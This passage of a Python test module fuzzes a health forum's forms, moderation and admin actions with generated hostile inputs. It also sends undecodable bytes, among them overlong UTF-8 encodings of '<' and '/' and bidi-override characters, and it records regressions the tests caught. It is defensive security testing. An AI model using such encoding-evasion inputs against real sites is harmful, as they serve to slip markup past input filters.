@given(body=hostile)
def test_edit_a_reply(member_browser, member, thread, body):
    payload("edit reply")
    post = add_reply(thread, member, "What I first wrote.")
    before = count(PostRevision)
    response = send(member_browser, f"/p/{post.id}/edit", {"body": body})
    fresh()
    if response.status_code == 302:
        assert post.body_source == normalised(body)
        assert post.body_html in check_page(member_browser.get(response.headers["Location"]))
    else:
        check_refused(response, {"body": normalised(body)})
        assert post.body_source == "What I first wrote."
        assert count(PostRevision) == before


@hostile_settings("edit opening post")
@given(fields=overrides("title", "body", "tags", "summary", "references", "disclosure"),
       article=st.booleans())
def test_edit_an_opening_post(expert_browser, expert, category, fields, article):
    payload("edit opening post")
    if article:
        thread = make_article(expert, category, title=f"Article to edit {next(unique)}")
    else:
        thread = make_discussion(expert, category, title=f"Discussion to edit {next(unique)}")
        fields = {k: v for k, v in fields.items() if k in ("title", "body", "tags")}
    opening = threads.opening_post(thread)
    original = (thread.title, thread.summary, thread.disclosure, opening.body_source)
    data = {"title": thread.title, "body": opening.body_source,
            "tags": " ".join(t.name for t in thread.tags), **fields}
    if article:
        data = {"summary": thread.summary, "disclosure": thread.disclosure,
                "references": threads.references_as_text(thread), **data}
    before = counts(PostRevision, Reference)
    response = send(expert_browser, f"/p/{opening.id}/edit", data)
    fresh()
    if response.status_code == 302:
        assert thread.title == one_line(data["title"])
        assert opening.body_source == normalised(data["body"])
        shown = [thread.title]
        if article:
            assert thread.summary == trimmed(data["summary"])
            assert thread.disclosure == trimmed(data["disclosure"])
            shown += [value for value in (thread.summary, thread.disclosure) if value]
        page = check_page(expert_browser.get(response.headers["Location"]), *shown)
        assert opening.body_html in page
    else:
        kept = {"title": one_line(data["title"]), "body": normalised(data["body"]),
                "tags": normalised(data["tags"])}
        if article:
            kept.update(summary=trimmed(data["summary"]), references=normalised(data["references"]),
                        disclosure=trimmed(data["disclosure"]))
        check_refused(response, kept)
        assert (thread.title, thread.summary, thread.disclosure,
                opening.body_source) == original
        assert counts(PostRevision, Reference) == before


# -- reports by members --------------------------------------------------------------------

REASON = mostly("spam", "other", "at-risk", "personal-info")


def _close_open_reports() -> None:
    db.session.execute(update(Flag).where(Flag.resolved_at.is_(None))
                       .values(resolved_at=utcnow()))
    db.session.commit()


@hostile_settings("flag")
@given(reason=REASON, note=hostile)
def test_flag_a_post(member_browser, moderator_browser, other_member, thread, reason, note):
    payload("flag")
    _close_open_reports()
    post = add_reply(thread, other_member, "Something to report.")
    before = count(Flag)
    response = send(member_browser, f"/p/{post.id}/flag", {"reason": reason, "note": note})
    if response.status_code == 302:
        flag = db.session.scalar(select(Flag).where(Flag.post_id == post.id))
        assert (flag.reason, flag.note) == (sent(reason), as_typed(note))
        check_page(moderator_browser.get("/mod"), *[flag.note] if flag.note else [])
    else:
        check_refused(response, {"note": sent(note)}, status=400)
        assert count(Flag) == before


@hostile_settings("report member")
@given(reason=REASON, note=hostile)
def test_report_a_member(member_browser, moderator_browser, other_member, reason, note):
    payload("report member")
    _close_open_reports()
    before = count(Flag)
    response = send(member_browser, f"/u/{other_member.username}/report",
                    {"reason": reason, "note": note})
    if response.status_code == 302:
        flag = db.session.scalar(select(Flag).where(Flag.resolved_at.is_(None)))
        assert (flag.reason, flag.note) == (sent(reason), as_typed(note))
        check_page(moderator_browser.get("/mod"), *[flag.note] if flag.note else [])
    else:
        check_refused(response, {"note": sent(note)})
        assert count(Flag) == before


# -- moderation -----------------------------------------------------------------------------

def _latest_event(action: str = "") -> ModerationEvent:
    fresh()
    return db.session.scalar(select(ModerationEvent)
                             .where(ModerationEvent.action.startswith(action))
                             .order_by(ModerationEvent.id.desc()))


def _as_int(value: str) -> int | None:
    try:
        return int(sent(value))
    except ValueError:
        return None


@hostile_settings("lock/unlock")
@given(lock_reason=hostile, unlock_reason=hostile)
def test_lock_and_unlock(moderator_browser, other_member, category, lock_reason, unlock_reason):
    payload("lock/unlock")
    thread = make_discussion(other_member, category, title=f"To lock {next(unique)}")
    response = send(moderator_browser, f"/t/{thread.id}/lock", {"reason": lock_reason})
    fresh()
    if thread.locked_at is None:
        check_flashed_error(moderator_browser, response)
        return
    assert thread.lock_reason == as_typed(lock_reason)
    check_page(moderator_browser.get(response.headers["Location"]), thread.lock_reason)
    payload("lock/unlock")
    response = send(moderator_browser, f"/t/{thread.id}/unlock", {"reason": unlock_reason})
    fresh()
    if thread.locked_at is not None:
        check_flashed_error(moderator_browser, response)
    else:
        assert _latest_event().reason == as_typed(unlock_reason)
        check_page(moderator_browser.get("/mod/log"), as_typed(unlock_reason))


@hostile_settings("move/pin/unpin")
@given(target=mostly("other"), reason=hostile, pin_reason=hostile)
def test_move_and_pin(moderator_browser, other_member, category, target, reason, pin_reason):
    payload("move/pin/unpin", 3)
    elsewhere = db.session.scalar(select(Category).where(Category.slug == "elsewhere")) \
        or make_category("elsewhere", "Elsewhere")
    thread = make_discussion(other_member, category, title=f"To move {next(unique)}")
    value = str(elsewhere.id) if target == "other" else target
    response = send(moderator_browser, f"/t/{thread.id}/move",
                    {"category": value, "reason": reason})
    fresh()
    if thread.category_id == elsewhere.id:
        assert _latest_event().reason == f"Living with MS → Elsewhere. {normalised(reason)}".strip()
        check_page(moderator_browser.get(response.headers["Location"]))
    elif _as_int(value) != category.id or len(normalised(reason)) > 2000:  # else: no move
        check_flashed_error(moderator_browser, response)
    for action in ("pin", "unpin"):
        response = send(moderator_browser, f"/t/{thread.id}/{action}", {"reason": pin_reason})
        fresh()
        if (thread.pinned_at is not None) != (action == "pin"):
            check_flashed_error(moderator_browser, response)
            assert len(normalised(pin_reason)) > 2000
        elif response.status_code == 302:
            check_page(moderator_browser.get(response.headers["Location"]))
        else:  # unpinning what is not pinned, with a reason too long: refused all the same
            check_flashed_error(moderator_browser, response)


@hostile_settings("hide/restore")
@given(hide_reason=hostile, restore_reason=hostile)
def test_hide_and_restore(moderator_browser, other_member, thread, hide_reason,
                          restore_reason):
    payload("hide/restore")
    post = add_reply(thread, other_member, "A reply a moderator hides.")
    response = send(moderator_browser, f"/p/{post.id}/hide", {"reason": hide_reason})
    fresh()
    if post.hidden_at is None:
        check_flashed_error(moderator_browser, response)
        return
    assert post.hidden_reason == as_typed(hide_reason)
    check_page(moderator_browser.get(response.headers["Location"]), post.hidden_reason)
    payload("hide/restore")
    response = send(moderator_browser, f"/p/{post.id}/restore", {"reason": restore_reason})
    fresh()
    if post.hidden_at is not None:
        check_flashed_error(moderator_browser, response)
    else:
        assert _latest_event().reason == as_typed(restore_reason)
        check_page(moderator_browser.get(response.headers["Location"]))


@pytest.fixture
def evidence_label(admin):
    return labels.save_label(admin, None, "Not supported by evidence",
                                 "No trial has shown this works.", "caution", 0)


@hostile_settings("label")
@given(label=mostly("label", "0"), note=hostile,
       on_thread=st.booleans())
def test_evidence_label(moderator_browser, other_member, thread, evidence_label, label, note,
                        on_thread):
    payload("label")
    post = add_reply(thread, other_member, "A claim to label.")
    target = thread if on_thread else post
    path = f"/t/{thread.id}/label" if on_thread else f"/p/{post.id}/label"
    value = str(evidence_label.id) if label == "label" else label
    fresh()
    before = target.label_id, target.label_note
    response = send(moderator_browser, path, {"label": value, "note": note})
    assert response.status_code == 302
    page = check_page(moderator_browser.get(response.headers["Location"]))
    fresh()
    if "flash-error" in page:
        refused()
        assert (target.label_id, target.label_note) == before
    else:
        assert target.label_note == (as_typed(note) if target.label_id else "")
        check_page(moderator_browser.get(response.headers["Location"]),
                   *[target.label_note] if target.label_note else [])


@hostile_settings("label citation")
@given(citation=mostly("PMID: 27145057", "10.1089/jir.2015.0177", ""), on_thread=st.booleans())
def test_evidence_label_citation(moderator_browser, other_member, thread, evidence_label,
                                 citation, on_thread):
    payload("label citation")
    post = add_reply(thread, other_member, "A claim to label.")
    target = thread if on_thread else post
    path = f"/t/{thread.id}/label" if on_thread else f"/p/{post.id}/label"
    fresh()
    before = target.label_doi, target.label_pmid
    response = send(moderator_browser, path, {"label": str(evidence_label.id), "note": "",
                                              "citation": citation},
                    headers={"Sec-Fetch-Site": "same-origin"})
    fresh()
    if response.status_code == 302:
        expected = labels.parse_citation(normalised(citation))
        assert (target.label_doi, target.label_pmid) == (
            (expected.doi, expected.pmid) if expected else (None, None))
        check_page(moderator_browser.get(response.headers["Location"]))
    else:
        refused()
        assert response.status_code in (400, 413)
        page = check_page(response)
        assert (target.label_doi, target.label_pmid) == before
        if response.status_code == 400 and normalised(citation).strip():
            assert str(escape(normalised(citation))) in page, "the typed citation was lost"


@hostile_settings("mark reviewed")
@given(note=hostile)
def test_mark_an_article_reviewed(app, expert_browser, expert, note):
    payload("mark reviewed")
    article = make_article(expert, make_category(f"research-{next(unique)}", "Research"))
    article.review_due_at = utcnow() - timedelta(days=1)
    fresh()
    due = article.review_due_at
    response = send(expert_browser, f"/t/{article.id}/reviewed", {"note": note})
    fresh()
    if response.status_code == 302:
        assert article.review_due_at > due
        assert _latest_event("review").reason == as_typed(note)
        check_page(expert_browser.get(f"/t/{article.id}"))
    else:
        check_refused(response, {"note": normalised(note)}, status=400)
        assert article.review_due_at == due


@hostile_settings("admin guidelines")
@given(guidelines=hostile, preview=st.booleans())
def test_admin_guidelines(admin_browser, guidelines, preview):
    payload("admin guidelines")
    data = {"GUIDELINES": guidelines, **({"preview": "Preview"} if preview else {})}
    response = send(admin_browser, "/admin/guidelines", data)
    if response.status_code == 302:
        shown = check_page(admin_browser.get("/guidelines"))
        assert text.render(normalised(guidelines)) in shown
    elif preview and response.status_code == 200 and "error-summary" not in page_of(response):
        assert text.render(normalised(guidelines)) in check_page(response)
    else:
        check_refused(response, {"GUIDELINES": normalised(guidelines)})


@hostile_settings("resolve reports")
@given(action=mostly("dismiss", "label", "hide", "lock"), label=mostly("label"), note=hostile)
def test_resolve_reports(moderator_browser, member, other_member, thread, evidence_label,
                         action, label, note):
    payload("resolve reports")
    thread = make_discussion(other_member, thread.category, title=f"Reported {next(unique)}")
    post = add_reply(thread, other_member, "A reported reply.")
    reports.flag_post(post, member, "spam", "Looks like an advert.")
    value = str(evidence_label.id) if label == "label" else label
    response = send(moderator_browser, f"/mod/reports/post-{post.id}",
                    {"action": action, "label": value, "note": note})
    if count(Flag, Flag.post_id == post.id, Flag.resolved_at.is_(None)) == 0:
        assert sent(action) in reports.RESOLUTIONS
        assert _latest_event("resolve:").reason == as_typed(note)
        check_page(moderator_browser.get(response.headers["Location"]))
    else:
        check_flashed_error(moderator_browser, response)
    _close_open_reports()


@hostile_settings("reject held post")
@given(reason=hostile)
def test_reject_a_held_post(moderator_browser, other_member, thread, reason):
    payload("reject held post")
    post = add_reply(thread, other_member, "Waiting for approval.")
    visibility.hold(post)
    db.session.commit()
    response = send(moderator_browser, f"/mod/held/{post.id}/reject", {"reason": reason})
    fresh()
    if post.hidden_at is None:
        check_flashed_error(moderator_browser, response)
    else:
        assert post.hidden_reason == (as_typed(reason) or "Not approved by a moderator.")
        check_page(moderator_browser.get(response.headers["Location"]))


@hostile_settings("suspend/reinstate")
@given(until=st.one_of(mostly((date.today() + timedelta(days=30)).isoformat()),
                       st.dates().map(date.isoformat)),
       reason=hostile, reinstate_reason=hostile)
def test_suspend_and_reinstate(moderator_browser, other_member, until, reason,
                               reinstate_reason):
    payload("suspend/reinstate")
    response = send(moderator_browser, f"/u/{other_member.username}/suspend",
                    {"until": until, "reason": reason})
    fresh()
    if other_member.suspended_until is None:
        check_flashed_error(moderator_browser, response)
        return
    assert other_member.suspension_reason == as_typed(reason)
    check_page(moderator_browser.get(response.headers["Location"]),
               other_member.suspension_reason)
    payload("suspend/reinstate")
    response = send(moderator_browser, f"/u/{other_member.username}/reinstate",
                    {"reason": reinstate_reason})
    fresh()
    if other_member.suspended_until is not None:
        check_flashed_error(moderator_browser, response)
        members.lift_suspension(other_member, other_member)
    else:
        assert _latest_event().reason == as_typed(reinstate_reason)


@hostile_settings("ban")
@given(reason=hostile)
def test_ban(admin_browser, admin, other_member, reason):
    payload("ban")
    response = send(admin_browser, f"/u/{other_member.username}/ban", {"reason": reason})
    fresh()
    if other_member.banned_at is None:
        check_flashed_error(admin_browser, response)
        return
    assert other_member.suspension_reason == as_typed(reason)
    check_page(admin_browser.get(response.headers["Location"]), other_member.suspension_reason)
    members.lift_suspension(other_member, admin)


# -- admin ------------------------------------------------------------------------------------

@hostile_settings("admin category")
@given(fields=overrides("slug", "name", "description", "position"), edit=st.booleans())
def test_admin_categories(admin_browser, category, fields, edit):
    payload("admin category")
    data = {"slug": f"hostile-{next(unique)}", "name": "A new category",
            "description": "What it is for.", "position": "3", **fields}
    before = count(Category)
    if edit:
        original = (category.name, category.description)
        response = send(admin_browser, f"/admin/categories/{category.id}", data)
        assert response.status_code == 302
        page = check_page(admin_browser.get(response.headers["Location"]))
        fresh()
        if "flash-error" in page:
            refused()
            assert (category.name, category.description) == original
        else:
            assert category.name == as_typed(data["name"])
            assert category.description == as_typed(data["description"])
            check_page(admin_browser.get("/admin/categories"), category.name,
                       category.description)
        return
    response = send(admin_browser, "/admin/categories", data)
    if response.status_code == 302:
        slug = normalised(data["slug"])
        created = db.session.scalar(select(Category).where(Category.slug == slug))
        assert created.name == as_typed(data["name"])
        assert created.description == as_typed(data["description"])
        check_page(admin_browser.get("/admin/categories"), created.name, created.description)
        check_page(admin_browser.get(f"/c/{quote(created.slug, safe='')}"), created.name)
    else:
        check_refused(response, {name: sent(data[name]) for name in ("slug", "name",
                                                                     "description")})
        assert count(Category) == before


@hostile_settings("admin label")
@given(fields=overrides("name", "description", "tone", "position"), edit=st.booleans())
def test_admin_labels(admin_browser, evidence_label, fields, edit):
    payload("admin label")
    data = {"name": f"Label {next(unique)}", "description": "What it means.", "tone": "info",
            "position": "1", **fields}
    if edit:
        # Only one label exists while editing, so a hostile name cannot collide (a
        # name taken by another label is test_renaming_a_label_to_a_taken_name).
        db.session.execute(delete(EvidenceLabel).where(EvidenceLabel.id != evidence_label.id))
        original = (evidence_label.name, evidence_label.description)
        response = send(admin_browser, f"/admin/labels/{evidence_label.id}", data)
        assert response.status_code == 302
        page = check_page(admin_browser.get(response.headers["Location"]))
        fresh()
        if "flash-error" in page:
            refused()
            assert (evidence_label.name, evidence_label.description) == original
        else:
            assert evidence_label.name == as_typed(data["name"])
            check_page(admin_browser.get("/admin/labels"), evidence_label.name,
                       evidence_label.description)
        return
    before = count(EvidenceLabel)
    response = send(admin_browser, "/admin/labels", data)
    if response.status_code == 302:
        created = db.session.scalar(select(EvidenceLabel).order_by(EvidenceLabel.id.desc()))
        assert created.name == as_typed(data["name"])
        check_page(admin_browser.get("/admin/labels"), created.name, created.description)
    else:
        check_refused(response, {"name": sent(data["name"]),
                                 "description": sent(data["description"])})
        assert count(EvidenceLabel) == before


@hostile_settings("admin settings")
@given(hold=mostly("0", "1", "2", "50", "51", "-1", " 7 "),
       confirmed=mostly("y"))
def test_admin_community_settings(admin_browser, hold, confirmed):
    payload("admin settings")
    response = send(admin_browser, "/admin/settings", {
        "HOLD_FIRST_POSTS": hold, "REQUIRE_CONFIRMED_EMAIL_TO_POST": confirmed})
    if response.status_code == 302:
        check_page(admin_browser.get(response.headers["Location"]))
    else:
        check_refused(response, {"HOLD_FIRST_POSTS": sent(hold)})


@hostile_settings("admin safety lists")
@given(fields=overrides("CRISIS_PHRASES", "HELPLINES", "WATCHED_DOMAINS"),
       region=mostly("UK", "US", "Mars", ""))
def test_admin_safety_lists(app, admin_browser, fields, region):
    payload("admin safety lists")
    data = {"CRISIS_PHRASES": "want to die", "WATCHED_DOMAINS": "clinic.example",
            "HELPLINES": "UK | Samaritans | 116 123 | samaritans.org | 24 hours",
            "HELPLINE_REGION": region, **fields}
    response = send(admin_browser, "/admin/safety", data)
    if response.status_code == 302:
        page = check_page(admin_browser.get(response.headers["Location"]))
        assert str(escape(normalised(data["HELPLINES"]))) in page
    else:
        check_refused(response, {name: normalised(value) for name, value in data.items()
                                 if name != "HELPLINE_REGION"})


@hostile_settings("admin role")
@given(role=hostile)
def test_admin_role(admin_browser, other_member, role):
    payload("admin role")
    fresh()
    before = other_member.role
    response = send(admin_browser, f"/admin/users/{other_member.username}/role", {"role": role})
    assert response.status_code == 302
    check_page(admin_browser.get(response.headers["Location"]))
    fresh()
    valid = sent(role) in ("member", "moderator", "admin")
    assert other_member.role == (sent(role) if valid else before)


@hostile_settings("admin two-step reset")
@given(reason=hostile)
def test_admin_two_step_reset(admin_browser, admin, other_member, recovery_codes, reason):
    payload("admin two-step reset")
    fresh()
    _two_step_on(other_member, recovery_codes)
    response = send(admin_browser, f"/admin/users/{other_member.username}/two-factor/reset",
                    {"reason": reason})
    fresh()
    if response.status_code == 302:
        assert not other_member.has_two_factor
        assert _latest_event().reason == as_typed(reason)
        check_page(admin_browser.get(response.headers["Location"]), as_typed(reason))
    else:
        check_refused(response, {"reason": sent(reason)})
        assert other_member.has_two_factor


def _clip(value: str, length: int) -> str:
    return as_typed(value)[:length]


@hostile_settings("verification decision")
@given(decision=mostly("approve", "decline"), reason=hostile,
       checks=overrides("checked_register", "checked_number", "checked_link"),
       details=overrides("credentials", "affiliation", "register_name", "register_number"))
def test_verification_decision(admin_browser, other_member, decision, reason, checks, details):
    payload("verification decision")
    # What the request form lets through: up to its lengths, trimmed.
    request = verification.request_verification(other_member, **{
        **VERIFICATION, **{name: _clip(value, 60 if name.startswith("register") else 200)
                           for name, value in details.items()}})
    response = send(admin_browser, f"/admin/verifications/{request.id}",
                    {"decision": decision, "reason": reason, **checks})
    fresh()
    if response.status_code == 302:
        assert request.status in ("approved", "declined")
        assert request.decision_reason == as_typed(reason)
        check_page(admin_browser.get(response.headers["Location"]))
    else:
        check_refused(response, {"reason": sent(reason)}, status=400)
        assert request.status == "pending"


@hostile_settings("revoke expert")
@given(reason=hostile)
def test_revoke_expert(admin_browser, admin, expert, reason):
    payload("revoke expert")
    fresh()
    if expert.verification is None:
        request = verification.request_verification(expert, **VERIFICATION)
        verification.decide_verification(request, admin, True, "", True, True, True)
    response = send(admin_browser, f"/u/{expert.username}/revoke-expert", {"reason": reason})
    assert response.status_code == 302
    page = check_page(admin_browser.get(response.headers["Location"]))
    fresh()
    if "flash-error" in page:
        refused()
        assert expert.verification is not None
    else:
        assert expert.verification is None
        revoked = db.session.scalar(select(ExpertVerification)
                                    .order_by(ExpertVerification.decided_at.desc()))
        assert revoked.decision_reason == as_typed(reason)


# -- reading: search, paths and query strings ------------------------------------------------

@hostile_settings("search")
@given(query=hostile, indexed=st.booleans())
def test_search(client, member, thread, query, indexed):
    payload("search")
    if indexed and normalised(query).strip() and len(query) <= 50_000:
        add_reply(thread, member, query)
    response = client.get("/search", query_string={"q": query})
    assert response.status_code == 200
    check_page(response, normalised(query).strip()[:200])


PATHS = ["/u/{}", "/u/{}/report", "/tag/{}", "/tag/{}/feed.atom", "/c/{}", "/c/{}/new",
         "/reset/{}", "/confirm/{}", "/settings/email/{}", "/admin/users/{}", "/mod/reports/{}"]
QUERIES = [("/mod/log", "moderator"), ("/mod/log", "user"), ("/mod/log", "action"),
           ("/admin/users", "q"), ("/t/{thread}", "page"), ("/t/{thread}", "quote"),
           ("/c/living-with-ms", "label"), ("/c/living-with-ms", "page"), ("/", "page"),
           ("/u/maria", "threads_page"), ("/settings/preferences", "next"),
           ("/login", "next")]


@hostile_settings("paths and queries")
@given(value=hostile, path=st.sampled_from(PATHS), query=st.sampled_from(QUERIES),
       signed=st.booleans())
def test_paths_and_query_strings(client, admin_browser, member, thread, value, path,
                                 query, signed):
    payload("paths and queries", 2)
    get = admin_browser.get if signed else client.get
    response = get(path.format(quote(value, safe="")))
    check_page(response)
    if response.mimetype == "application/atom+xml":
        ElementTree.fromstring(response.get_data())  # noqa: S314 - our own feed
    page, name = query
    check_page(get(page.format(thread=thread.id), query_string={name: value}))


# -- bytes no browser should send ---------------------------------------------------------------

UNDECODABLE = [
    b"\xed\xa0\x80",            # a lone high surrogate, UTF-8 encoded (CESU)
    b"\xed\xb0\x80x",           # a lone low surrogate
    b"\xed\xa0\xbd\xed\xb8\x80",  # a surrogate pair spelt as two code points
    b"\xc0\xbc\xc0\xaf",        # overlong '<' and '/'
    b"\xff\xfe\xfd",            # bytes that are never UTF-8
    b"\xe2\x82",                # truncated
    b"\xf4\x90\x80\x80",        # past U+10FFFF
]


@pytest.mark.parametrize("raw", UNDECODABLE)
@pytest.mark.parametrize("encoding", ["multipart", "percent", "raw"])
def test_undecodable_bytes(member_browser, category, raw, encoding):
    """Lone surrogates and other invalid UTF-8, sent the three ways a form body can carry
    them: no 5xx, and whatever is stored is valid text (replaced, never a surrogate)."""
    payload("undecodable bytes")
    token = csrf_token(page_of(member_browser.get(f"/c/{category.slug}/new")))
    title = b"Bytes " + raw + b" in a title"
    body = b"And in the body: " + raw
    if encoding == "multipart":
        parts = b"".join(
            b"--BOUNDARY\r\nContent-Disposition: form-data; name=\"" + name.encode()
            + b"\"\r\n\r\n" + value + b"\r\n"
            for name, value in (("csrf_token", token.encode()), ("title", title), ("body", body)))
        data, content_type = parts + b"--BOUNDARY--\r\n", "multipart/form-data; boundary=BOUNDARY"
    else:
        encode = (lambda v: quote(v, safe="").encode()) if encoding == "percent" else (
            lambda v: v)
        data = b"&".join([b"csrf_token=" + token.encode(), b"title=" + encode(title),
                          b"body=" + encode(body)])
        content_type = "application/x-www-form-urlencoded"
    before = count(Thread)
    response = member_browser.client.post(f"/c/{category.slug}/new", data=data,
                                          content_type=content_type)
    check_page(response)
    if response.status_code == 302:
        thread = db.session.get(Thread, thread_id_in(response.headers["Location"]))
        for value in (thread.title, threads.opening_post(thread).body_source):
            value.encode("utf-8")  # no surrogate got in
        check_page(member_browser.get(response.headers["Location"]), thread.title)
    else:
        assert count(Thread) == before


# -- regressions: bugs these tests found -------------------------------------------------------

@pytest.mark.parametrize(("fields", "message"), [
    # Control characters alone passed "required" and were stored as an empty title / body.
    ({"title": "\x01\x02\x03\x04\x05"}, "Please give your discussion a title."),
    ({"body": "\x01\x1b\x7f"}, "Please write something."),
    # ... or as a title shorter than the five characters the form asks for.
    ({"title": "\x01\x01\x01\x01ab"}, "5 to 150 characters"),
    # NFC makes U+FB2C three characters: 60 typed were 180 stored, past the column's 150
    # (a 503 on Postgres, a 180-character title on SQLite).
    ({"title": "\ufb2c" * 60}, "5 to 150 characters"),
])
def test_discussion_limits_apply_to_the_text_as_stored(member_browser, category, fields,
                                                       message):
    data = {"title": "A title that is fine", "body": "Words.", **fields}
    response = send(member_browser, f"/c/{category.slug}/new", data)
    page = check_refused(response, {"title": one_line(data["title"]),
                                    "body": normalised(data["body"])})
    assert message in page
    assert count(Thread) == 0


@pytest.mark.parametrize(("fields", "message"), [
    ({"summary": "\x01" * 10 + "abc"}, "10 to 600 characters"),
    ({"title": "\ufb2c" * 51}, "5 to 150 characters"),
    # A DOI longer than Reference.doi's 200 characters was a 503 on Postgres.
    ({"references": "Smith J. A study. doi:10.1000/" + "x" * 300}, "longer than 200"),
])
def test_article_limits_apply_to_the_text_as_stored(expert_browser, category, fields, message):
    data = {"title": "An article title", "summary": "A summary that is fine.",
            "body": "Findings.", "references": REFERENCES, **fields}
    response = send(expert_browser, "/articles/new", data)
    assert message in check_refused(response, {"references": data["references"]})
    assert counts(Thread, Reference) == (0, 0)


def test_a_reply_of_control_characters_is_refused(member_browser, thread):
    response = send(member_browser, f"/t/{thread.id}/reply", {"body": "\x01\x02\x0b"})
    assert "Please write something" in check_refused(response, {})
    assert count(Post) == 1


def test_noncharacters_do_not_break_the_feeds(expert_browser, category):
    """U+FFFE and U+FFFF are not XML characters: stored, they made the Atom feeds
    unreadable. forum.text.normalise drops them."""
    response = send(expert_browser, "/articles/new", {
        "title": "Noncharacters \ufffe\uffff here", "summary": "A summary \uffff of it.",
        "body": "Body \ufffe text.", "tags": "feedtag", "references": REFERENCES,
        "disclosure": "None."})
    assert response.status_code == 302
    assert db.session.scalar(select(Thread.title)) == "Noncharacters  here"
    for path in ("/feed.atom", "/tag/feedtag/feed.atom"):
        ElementTree.fromstring(expert_browser.get(path).get_data())  # noqa: S314 - our feed


# -- regressions: defects this module found outside writing, now fixed -------------------------

def test_a_category_address_has_no_newline(admin_browser):
    send(admin_browser, "/admin/categories", {"slug": "fatigue\n", "name": "Fatigue"})
    assert count(Category, Category.slug == "fatigue\n") == 0


def test_renaming_a_label_to_a_taken_name(admin_browser, admin, evidence_label):
    other = labels.save_label(admin, None, "Promising", "Early results.", "good", 1)
    events = count(ModerationEvent)
    response = send(admin_browser, f"/admin/labels/{other.id}",
                    {"name": evidence_label.name, "tone": "good", "position": "1"})
    assert response.status_code == 302
    page = check_page(admin_browser.get(response.headers["Location"]))
    assert '<p class="flash flash-error">That label already exists.</p>' in page
    fresh()
    assert (other.name, evidence_label.name) == ("Promising", "Not supported by evidence")
    assert count(ModerationEvent) == events, "a refused rename was logged as an edit"


def test_a_display_name_does_not_break_the_feed(expert_browser, expert, category):
    """A control character and a bidi override in a display name are not stored, so
    the Atom feed that names the author stays readable XML."""
    typed = "Dr \x01K\u202e"
    response = send(expert_browser, "/settings", {"display_name": typed, "bio": ""})
    assert response.status_code == 302, page_of(response)[:600]
    fresh()
    assert expert.display_name == one_line(typed) == "Dr K"
    article = make_article(expert, category)
    feed = expert_browser.get("/feed.atom")
    assert feed.status_code == 200
    root = ElementTree.fromstring(feed.get_data())  # noqa: S314 - our own feed
    atom = "{http://www.w3.org/2005/Atom}"
    assert [(entry.findtext(f"{atom}title"), entry.findtext(f"{atom}author/{atom}name"))
            for entry in root.iter(f"{atom}entry")] == [(article.title, "Dr K")]


@hostile_settings("draft")
@given(body=hostile, key=st.one_of(st.just("reply:{id}"), hostile))
def test_save_and_discard_a_draft(member_browser, thread, body, key):
    payload("draft")
    key = key.replace("{id}", str(thread.id))
    response = send(member_browser, "/drafts/save", {"body": body, "draft_key": key},
                    headers={"Sec-Fetch-Site": "same-origin"})
    check_page(response)
    fresh()
    if key == f"reply:{thread.id}" and normalised(body).strip() and len(normalised(body)) <= 50_000:
        assert response.status_code == 302
        assert db.session.scalar(select(Draft.body)) == normalised(body)
        check_page(member_browser.get(f"/t/{thread.id}"), normalised(body))
    else:
        assert response.status_code in (302, 400, 413), page_of(response)[:600]
        if response.status_code == 400:
            refused()
            page = page_of(response)
            assert (str(escape(normalised(body))) in page or str(escape(body)) in page
                    or not normalised(body).strip()), "the typed text was lost"
    discarded = send(member_browser, "/drafts/discard", {"draft_key": key})
    check_page(discarded)
    assert discarded.status_code in (302, 400)
    assert count(Draft) == 0 or discarded.status_code == 400


@hostile_settings("bookmark")
@given(note=hostile, remind_at=mostly("", "2031-05-04T09:30", "2031-05-04 09:30"))
def test_bookmark_a_post_with_a_hostile_note_and_reminder(member_browser, member, thread, note,
                                                          remind_at):
    payload("bookmark")
    post_id = db.session.scalar(select(Post.id).where(Post.thread_id == thread.id))
    response = send(member_browser, f"/p/{post_id}/bookmark",
                    {"note": note, "remind_at": remind_at})
    page = check_page(response)
    assert response.status_code in (200, 302, 400, 413), page[:600]
    if response.status_code == 302:
        fresh()
        saved = db.session.scalar(select(Bookmark.note).where(Bookmark.user_id == member.id))
        assert saved is not None
        check_page(member_browser.get("/bookmarks"), saved)
    else:
        refused()
        kept = normalised(note).strip()
        assert (not kept or str(escape(kept)) in page or str(escape(note)) in page
                or str(escape(normalised(note))) in page), "the typed note was lost"
    removed = send(member_browser, f"/p/{post_id}/bookmark/remove", {})
    check_page(removed)
    assert removed.status_code in (302, 404)


# -- every form is covered ----------------------------------------------------------------------

# POST endpoints whose only input is the CSRF token and the URL: nothing to type into.
# -- issue #14: the safety queue ----------------------------------------------------------

def _crisis_alert(thread):
    opening = db.session.scalar(select(Post).where(Post.thread_id == thread.id))
    alert = alerts.raise_alert(AlertKind.CRISIS, f"crisis:post:{opening.id}", post=opening,
                               subject=thread.author, detail="hostile")
    db.session.commit()
    return alert


@hostile_settings("members-only")
@given(on=mostly("y", ""), reason=hostile)
def test_members_only_switch(moderator_browser, other_member, category, on, reason):
    payload("members-only")
    thread = make_discussion(other_member, category, title=f"Switch {next(unique)}")
    response = send(moderator_browser, f"/t/{thread.id}/members-only",
                    {"members_only": on, "reason": reason})
    fresh()
    if response.status_code == 200:
        check_refused(response, {"reason": reason})
        assert thread.members_only is False
        return
    assert response.status_code == 302, page_of(response)[:600]
    if thread.members_only:
        assert _latest_event("members-only").reason == as_typed(reason)
        check_page(moderator_browser.get("/mod/log"), as_typed(reason))
    check_page(moderator_browser.get(response.headers["Location"]))


@hostile_settings("alert note")
@given(body=hostile, template=hostile)
def test_alert_note(moderator_browser, other_member, category, body, template):
    payload("alert note")
    thread = make_discussion(other_member, category, title=f"Note {next(unique)}")
    alert = _crisis_alert(thread)
    check_page(moderator_browser.client.get(f"/mod/alerts/{alert.id}/note",
                                            query_string={"template": sent(template)}))
    response = send(moderator_browser, f"/mod/alerts/{alert.id}/note", {"body": body})
    if response.status_code == 302:
        assert _latest_event("note").reason == as_typed(body)
        check_page(moderator_browser.get("/notifications"))
        check_page(moderator_browser.get("/mod/log"), as_typed(body))
    else:
        check_refused(response, {"body": body})
    safety_queue.resolve(safety_queue.get_alert(alert.id), other_member)


@hostile_settings("alert escalate/resolve")
@given(reason=hostile, note=hostile)
def test_alert_escalate_and_resolve(moderator_browser, other_member, category, reason, note):
    payload("alert escalate/resolve", 2)
    thread = make_discussion(other_member, category, title=f"Alert {next(unique)}")
    alert = _crisis_alert(thread)
    for path, data in (("escalate", {"reason": reason}), ("resolve", {"note": note})):
        response = send(moderator_browser, f"/mod/alerts/{alert.id}/{path}", data)
        if response.status_code == 302:
            check_page(moderator_browser.get(response.headers["Location"]))
        else:
            check_refused(response, data)
    check_page(moderator_browser.get("/mod/log"))
    fresh()
    if alert.resolved_at is None:
